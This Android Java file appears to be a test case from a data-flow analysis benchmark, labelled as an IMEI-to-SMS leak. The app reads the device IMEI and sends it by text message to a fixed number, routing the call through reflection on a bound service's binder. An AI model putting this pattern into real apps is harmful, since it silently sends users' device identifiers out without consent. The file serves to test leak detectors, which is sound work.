// about       A bound service's binder is called by the name of a method, which sends.
// leak        DEV_IMEI sms
// service     cn.example.flow.MainActivity$DeviceService
package cn.example.flow;

import android.app.Activity;
import android.app.Service;
import android.content.ComponentName;
import android.content.Intent;
import android.content.ServiceConnection;
import android.os.Binder;
import android.os.Bundle;
import android.os.IBinder;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class MainActivity extends Activity implements ServiceConnection {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    bindService(new Intent(this, DeviceService.class), this, BIND_AUTO_CREATE);
  }

  @Override
  public void onServiceConnected(ComponentName name, IBinder binder) {
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    try {
      // The method's name.
      Method method = binder.getClass().getMethod("push", String.class);
      method.invoke(binder, phone.getDeviceId());
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }

  @Override
  public void onServiceDisconnected(ComponentName name) {}

  @Override
  protected void onDestroy() {
    unbindService(this);
    super.onDestroy();
  }

  public static class DeviceService extends Service {
    @Override
    public IBinder onBind(Intent intent) {
      return new LocalBinder();
    }

    class LocalBinder extends Binder {
      public void push(String id) {
        SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null);
      }

      public void keep(String id) {
        getSharedPreferences("kept", MODE_PRIVATE).edit().putString("id", id).apply();
      }
    }
  }
}
